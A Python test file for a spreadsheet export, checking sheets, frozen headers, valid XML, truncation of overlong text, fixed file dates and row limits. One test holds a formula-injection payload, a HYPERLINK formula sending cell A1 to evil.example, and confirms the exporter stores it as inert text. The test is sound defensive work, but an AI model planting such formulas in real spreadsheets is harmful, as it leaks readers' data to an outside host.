"""The workbook, as openpyxl reads it."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from xml.etree import ElementTree as ET

import openpyxl
import pytest
from openpyxl import Workbook
from openpyxl.utils.escape import unescape

from reportedly.desk.exports import Bundle, export, spreadsheet
from reportedly.desk.exports.delimited import BETWEEN
from reportedly.desk.tables import TABLES, table
from reportedly.errors import SettingError


def opened(told: Bundle) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(export("xlsx", told)))


@pytest.mark.parametrize("story", ["bundle", "ahead_bundle", "empty_bundle"])
def test_every_table_is_a_sheet_with_all_its_cells(story: str, request: pytest.FixtureRequest) -> None:
    told = request.getfixturevalue(story)
    book = opened(told)
    assert book.sheetnames == list(TABLES)
    for name in TABLES:
        header, *found = book[name].iter_rows(values_only=True)
        assert header == table(name).header
        for cells, row in zip(found, table(name).rows(told.view), strict=True):
            for cell, value in zip(cells, row, strict=True):
                if isinstance(value, tuple):
                    assert cell == (BETWEEN.join(value) or None)
                elif isinstance(value, date):
                    assert cell == datetime(value.year, value.month, value.day)  # noqa: DTZ001
                else:
                    assert cell == value
                    assert type(cell) is type(value)


def test_the_header_stays_while_rows_are_scrolled(bundle: Bundle) -> None:
    assert {opened(bundle)[name].freeze_panes for name in TABLES} == {"A2"}


def test_no_cell_is_a_formula_or_a_link(hostile: Bundle) -> None:
    book = opened(hostile)
    cells = [cell for name in TABLES for row in book[name].iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert sum(cell.value == '=HYPERLINK("http://evil.example/?"&A1,"click")' for cell in cells) > 5


def test_words_are_kept_but_for_two_characters_that_xml_has_not(hostile: Bundle) -> None:
    found = {row[1]: row[2] for row in opened(hostile)["claims"].iter_rows(min_row=2, values_only=True)}
    for claim in hostile.view.claims:
        if len(claim.label) < 32_767:
            kept = claim.label.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")
            assert unescape(str(found[claim.id])) == kept  # control characters are written as _x0007_ (ECMA-376)


def test_every_part_of_the_file_is_xml(hostile: Bundle) -> None:
    with zipfile.ZipFile(io.BytesIO(export("xlsx", hostile))) as files:
        for name in files.namelist():
            ET.fromstring(files.read(name))  # noqa: S314 - our own file


def test_words_that_no_cell_holds_are_cut_with_a_mark(hostile: Bundle) -> None:
    words = [row[10] for row in opened(hostile)["statements"].iter_rows(min_row=2, values_only=True)]
    long = [str(each) for each in words if str(each).startswith("long word")]
    assert [(len(each), each[-1]) for each in long] == [(32_767, "…")]


def test_a_file_tells_its_day_and_no_time_of_the_clock(bundle: Bundle) -> None:
    made = export("xlsx", bundle)
    properties = openpyxl.load_workbook(io.BytesIO(made)).properties
    assert properties.created == datetime(2031, 3, 8)  # noqa: DTZ001 - openpyxl gives none
    assert properties.subject == "sty_dam, as known on 2031-03-08"
    with zipfile.ZipFile(io.BytesIO(made)) as files:
        assert {info.date_time[0] for info in files.infolist()} == {1980}


def test_more_rows_than_a_sheet_holds_are_refused(bundle: Bundle, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(spreadsheet, "MOST_ROWS", 4)
    with pytest.raises(SettingError, match="a sheet holds 4 rows and the sides are more; export them as csv"):
        export("xlsx", bundle)
